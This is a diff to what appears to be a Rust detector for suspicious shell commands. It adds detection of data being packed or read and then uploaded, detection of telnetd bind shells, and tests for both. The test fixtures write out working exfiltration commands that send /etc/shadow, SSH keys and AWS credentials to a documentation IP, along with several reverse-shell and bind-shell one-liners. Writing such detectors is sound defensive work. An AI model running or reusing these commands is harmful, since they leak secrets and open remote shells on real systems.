@@ -17,6 +17,8 @@ pub(super) enum Sign {
     DecodeAndRun,
     /// Opens a connection and gives it to a shell.
     ConnectShell,
+    /// Packs or encrypts files, or takes passwords, and sends them away.
+    SendAway,
     /// Fetches something.
     Fetch,
     /// Asks the metadata service of a cloud.
@@ -38,6 +40,7 @@ impl Sign {
             Sign::FetchAndRun => "fetches something and runs it",
             Sign::DecodeAndRun => "decodes something and runs it",
             Sign::ConnectShell => "gives a shell to a connection",
+            Sign::SendAway => "packs files and sends them away",
             Sign::Fetch => "fetches something",
             Sign::Metadata => "asks the metadata service of the cloud",
             Sign::Credentials => "reads passwords or keys",
@@ -106,6 +109,11 @@ pub(super) fn signs(text: &[u8]) -> Vec<Sign> {
     }
     if is_connecting(text, &commands) {
         found.push(Sign::ConnectShell);
+    }
+    let sends = commands.iter().any(Command::is_upload)
+        && (commands.iter().any(Command::is_packer) || SECRETS.iter().any(|path| has(path)));
+    if sends {
+        found.push(Sign::SendAway);
     }
     if fetches {
         found.push(Sign::Fetch);
@@ -181,7 +189,24 @@ fn is_connecting(text: &[u8], commands: &[Command<'_>]) -> bool {
     // A script that waits for a connection and starts a shell on it.
     let waits = has("listen(") && has("accept(") && (has("/bin/sh") || has("/bin/bash") || has("pty.spawn"));
     let is_waiting = waits && (has("dup2(") || has("stdin=") || has("STDIN") || has("pty.spawn"));
-    is_awk || is_bash || is_netcat || is_relayed || is_between || is_socat || is_script || is_php || is_waiting
+    let is_telnet = commands.iter().any(|command| {
+        let is_server = command.name().is_some_and(|name| matches!(name, b"telnetd" | b"in.telnetd"));
+        let login = command.words.windows(2).find_map(|pair| match pair {
+            [b"-l", program] => program.rsplit(|&byte| byte == b'/').next(),
+            _ => None,
+        });
+        is_server && login.is_some_and(is_shell_name)
+    });
+    is_telnet
+        || is_awk
+        || is_bash
+        || is_netcat
+        || is_relayed
+        || is_between
+        || is_socat
+        || is_script
+        || is_php
+        || is_waiting
 }
 
 /// Whether an address of `socat` runs a shell that reads commands: `exec:'bash -li',pty`, `SYSTEM:sh`.
@@ -228,6 +253,29 @@ impl<'t> Command<'t> {
     fn is_fetch(&self) -> bool {
         let fetcher = |name: &[u8]| FETCHERS.iter().any(|fetcher| fetcher.as_bytes() == name);
         self.name().is_some_and(fetcher) || self.words.iter().any(|word| word.starts_with(b"/dev/tcp/"))
+    }
+
+    /// Whether it sends a file or its input to a server.
+    fn is_upload(&self) -> bool {
+        let name = self.name().unwrap_or_default();
+        let mut arguments = self.words.iter().skip_while(|word| !word.ends_with(name)).skip(1);
+        match name {
+            b"curl" => arguments.any(|word| {
+                matches!(*word, b"-T" | b"--upload-file") || word.starts_with(b"@") || word.contains_str("=@")
+            }),
+            b"wget" => arguments.any(|word| word.starts_with(b"--post-file") || word.starts_with(b"--body-file")),
+            b"nc" | b"ncat" | b"netcat" => self.is_piped,
+            _ => false,
+        }
+    }
+
+    /// Whether it packs or encrypts files.
+    fn is_packer(&self) -> bool {
+        match self.name() {
+            Some(b"tar" | b"zip" | b"7z" | b"gpg" | b"age" | b"mysqldump" | b"pg_dump" | b"pg_dumpall") => true,
+            Some(b"openssl") => self.words.contains(&&b"enc"[..]),
+            _ => false,
+        }
     }
 
     /// Whether it is a shell or an interpreter that runs what it reads.
@@ -435,11 +483,34 @@ mod tests {
     }
 
     #[test]
+    fn files_that_are_packed_and_sent_are_known() {
+        for text in [
+            "tar czf - /etc | openssl enc -aes-256-cbc -pass pass:x | curl -s -T - http://203.0.113.66/up",
+            "curl -s -F f=@/etc/shadow http://203.0.113.66/paste",
+            "curl -d @/root/.ssh/id_rsa http://203.0.113.66/",
+            "tar cz /srv | nc 203.0.113.66 4444",
+            "wget --post-file=/root/.aws/credentials http://203.0.113.66/",
+        ] {
+            assert!(signs(text.as_bytes()).contains(&Sign::SendAway), "{text}");
+        }
+        for text in [
+            "curl -s -T report.pdf http://intranet/up",
+            "curl -F file=@photo.jpg http://localhost/upload",
+            "tar czf /backup/a.tgz /data && curl http://localhost/done",
+            "curl -X POST -d '{}' http://localhost",
+        ] {
+            assert!(!signs(text.as_bytes()).contains(&Sign::SendAway), "{text}");
+        }
+    }
+
+    #[test]
     fn connections_with_a_shell_are_known() {
         for text in [
             "bash -i >& /dev/tcp/203.0.113.66/4444 0>&1",
             "exec 5<>/dev/tcp/10.0.0.1/4444; cat <&5 | while read l; do $l 2>&5 >&5; done",
             "nc -e /bin/sh 203.0.113.66 4444",
+            "busybox nc -ll -p 5555 -e /bin/sh",
+            "busybox telnetd -F -p 2323 -l /bin/sh",
             "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 203.0.113.66 4444 >/tmp/f",
             "cat /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.66 4446 >/tmp/f",
             "s.listen(1)\nc,a=s.accept();subprocess.call([\"/bin/sh\",\"-i\"],stdin=c.fileno(),stdout=c.fileno())",
@@ -454,6 +525,7 @@ mod tests {
             "postgres -c unix_socket_directories=/tmp -c max_connections=8 -h 127.0.0.1; exec psql",
             "timeout 1 bash -c '</dev/tcp/db/5432'",
             "nc -z db 5432",
+            "telnetd -F -l /bin/login",
             "cat report | sh format.sh | nc printer 9100",
             "s.listen(1); c, a = s.accept(); c.send(b'ready')",
             "socat TCP-LISTEN:80,fork TCP:db:80",
